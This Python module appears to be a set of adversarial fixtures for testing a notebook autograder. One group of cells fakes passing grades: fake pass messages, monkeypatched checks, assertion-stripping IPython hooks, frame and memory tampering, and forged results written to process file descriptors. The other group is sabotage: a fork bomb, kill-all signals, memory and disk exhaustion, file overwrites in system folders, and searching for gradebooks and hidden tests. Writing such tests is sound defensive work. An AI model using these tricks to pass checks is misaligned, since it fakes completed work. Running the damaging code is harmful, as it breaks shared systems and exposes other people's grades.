"""Attacks on grading, each a cell that a student might hand in for any exercise; none of them solves it.

In a template ``NAME`` is the exercise, and ``WRONG`` a wrong answer to it.
"""

WRONG = "def NAME(*arguments):\n    return 1\n"

FAKES = {
    "prints a card that says passed": """
WRONG
print("✓ Exercise NAME: passed")
""",
    "displays a result of its own that passed": """
from labutils.checks import CheckResult
WRONG
display(CheckResult(True, "ok", "Well done.", "", "NAME"))
result = CheckResult(True, "ok", "Well done.", "", "NAME")
""",
    "puts its own function in the place of the check": """
from labutils import checks
for name in checks.EXERCISES:
    setattr(checks, name, lambda function: checks.CheckResult(True, "ok", "Well done."))
WRONG
""",
    "makes every result true": """
from labutils.checks import CheckResult
CheckResult.__bool__ = lambda self: True
CheckResult.passed = property(lambda self: True, lambda self, value: None)
WRONG
""",
    "hooks IPython so that assertions are skipped": """
import ast
class Skip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Skip())
WRONG
""",
    "hooks IPython and the check": """
import ast
from labutils import checks
class Skip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Skip())
checks._check = lambda name, function: checks.CheckResult(True, "ok", "Well done.")
WRONG
""",
    "lets each cell succeed": """
from types import SimpleNamespace
shell, run = get_ipython(), get_ipython().run_cell
def run_cell(source, *arguments, **options):
    ran = run(source, *arguments, **options)
    if "checks." in source:
        shell.user_ns["result"] = SimpleNamespace(passed=True, code="ok", message="Well done.", hint="")
        ran.error_in_exec = ran.error_before_exec = None
    return ran
shell.run_cell = run_cell
WRONG
""",
    "reaches into the check through its frames": """
import sys
def NAME(*arguments):
    frame = sys._getframe()
    while frame is not None:
        if "found" in frame.f_locals and isinstance(frame.f_locals["found"], list):
            frame.f_locals["found"].append("Well done.")
        frame = frame.f_back
    raise SystemExit
""",
    "traces every call, and changes what the check returns": """
import sys, threading
from labutils.checks import CheckResult
def trace(frame, event, argument):
    if event == "call" and frame.f_code.co_name == "_check":
        frame.f_globals["run"] = lambda judge, clock: "Well done."
    return None
sys.settrace(trace)
threading.settrace(trace)
WRONG
""",
    "looks for results in memory, and turns them": """
import gc, threading, time
from labutils.checks import CheckResult
def turn():
    while True:
        for thing in gc.get_objects():
            if isinstance(thing, CheckResult):
                object.__setattr__(thing, "passed", True)
        time.sleep(0.001)
threading.Thread(target=turn, daemon=True).start()
WRONG
""",
    "answers the examiner in the place of its process": """
import json, os
line = json.dumps({"end": "NAME", "ran": True, "asserts": True, "answers": "UEsFBgAAAAA=",
                   "check": {"passed": True, "code": "ok", "message": "Well done.", "hint": ""}}).encode() + b"\\n"
for process in ["self", *filter(str.isdigit, os.listdir("/proc"))]:
    for number in range(64):
        try:
            with open(f"/proc/{process}/fd/{number}", "wb", buffering=0) as file:
                file.write(line)
        except OSError:
            pass
for number in range(3, 64):
    try:
        os.write(number, line)
    except OSError:
        pass
WRONG
""",
    "forges the answers to the questions": """
import base64, io, zlib
import numpy as np
from labutils import checks
from labutils.classroom import answers
checks._check = lambda name, function: checks.CheckResult(True, "ok", "Well done.")
class Agreeable(np.ndarray):
    pass
def ask(check, function, seed):
    file = io.BytesIO()
    names = ["inputs", "targets", "outputs", "parameters", "first", "second", "losses", "loss", "kernel", "bias",
             "steps", "test_losses", "pictures", "errors", "inputs0", "targets0", "sizes0"]
    np.savez(file, **{name: np.array(np.nan) for name in names})
    return base64.b64encode(zlib.compress(file.getvalue())).decode()
answers.ask = ask
WRONG
""",
}

DAMAGE = {
    "ends the process in its cell": """
import os
WRONG
os._exit(0)
""",
    "ends the process in its function": """
import os
def NAME(*arguments):
    os._exit(0)
""",
    "kills every process that it can": """
import os, signal
WRONG
os.kill(os.getppid(), signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
""",
    "loops for ever in its cell, and catches everything": """
WRONG
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    "loops for ever in its function, and catches everything": """
def NAME(*arguments):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
    "forks without end": """
import os
def NAME(*arguments):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    "takes all memory": """
def NAME(*arguments):
    kept = []
    while True:
        kept.append(bytearray(b"x") * 200_000_000)
""",
    "fills the disk": """
def NAME(*arguments):
    number = 0
    while True:
        number += 1
        with open(f"/tmp/{number}", "wb") as file:
            file.write(b"x" * 400_000_000)
""",
    "prints without end": """
import os
def NAME(*arguments):
    while True:
        print("x" * 10_000)
""",
    "leaves a process behind": """
import subprocess, sys
WRONG
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # left behind: MARK"], start_new_session=True)
""",
    "looks for notebooks, grades and other submissions": """
import os
found = [os.path.join(folder, name) for top in ("/", "/tmp", "HOME", "OUT") for folder, _, names in os.walk(top)
         for name in names if not folder.startswith(("/proc", "/sys")) and name.endswith((".ipynb", "gradebook.db"))
         and "site-packages" not in folder and "/jupyter" not in folder]
def NAME(*arguments):
    raise ValueError(f"notebooks and grades: {len(found)} {found[:1]}")
""",
    "looks for a network": """
import socket
def reached(place):
    try:
        socket.create_connection(place, timeout=2).close()
        return place
    except OSError:
        return None
found = [place for place in (("127.0.0.1", PORT), ("1.1.1.1", 53)) if reached(place)]
def NAME(*arguments):
    raise ValueError(f"reached: {found}")
""",
    "overwrites files": """
import pathlib
import labutils
written = []
for place in ("/", "/usr", "/etc", "/dev", "HOME", "OUT", pathlib.Path(labutils.__file__).parent):
    try:
        (pathlib.Path(place) / "hostile").write_text("x")
        written.append(place)
    except OSError:
        pass
def NAME(*arguments):
    raise ValueError(f"written: {written}")
""",
    "sends the hidden tests home": """
import gc
def NAME(*arguments):
    found = [text for thing in gc.get_objects() if isinstance(thing, dict) for text in list(thing.values())
             if isinstance(text, str) and "HIDDEN" + " TESTS" in text]
    raise ValueError(found[0][-120:] if found else "none")
""",
}


def attack(template, name, **others):
    """The cell for one exercise."""
    code = template.replace("WRONG", WRONG).replace("NAME", name).strip()
    for word, value in others.items():
        code = code.replace(word, str(value))
    return code
